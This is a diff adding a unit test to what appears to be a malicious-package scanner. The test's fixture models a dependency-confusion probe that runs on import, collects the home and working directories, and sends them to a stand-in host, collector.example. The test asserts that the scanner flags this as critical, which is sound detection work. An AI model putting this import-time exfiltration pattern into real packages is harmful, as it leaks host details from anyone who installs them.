@@ -35,6 +35,19 @@ def test_network_with_host_facts_on_import_is_critical() -> None:
     assert findings[0].severity is Severity.CRITICAL
 
 
+def test_host_facts_handed_to_a_try_wrapper_still_count() -> None:
+    """The dependency-confusion probe template hands ``os.getcwd`` to a helper that calls it."""
+    source = (
+        "import os, json, urllib.request\n"
+        "def try_call(func, *args):\n    try:\n        return func(*args)\n    except Exception:\n"
+        "        return 'err'\n"
+        "data = json.dumps({'d': try_call(os.path.expanduser, '~'), 'c': try_call(os.getcwd)})\n"
+        "urllib.request.urlopen('https://collector.example/?d=' + data)\n"
+    )
+    findings = run(RULES, py(source, path="acme/__init__.py"))
+    assert [f.severity for f in findings if f.rule == "PV-IMP-001"] == [Severity.CRITICAL]
+
+
 def test_benign_function_bodies_and_main_guard_are_quiet() -> None:
     source = (
         "import subprocess, requests, sys\n"
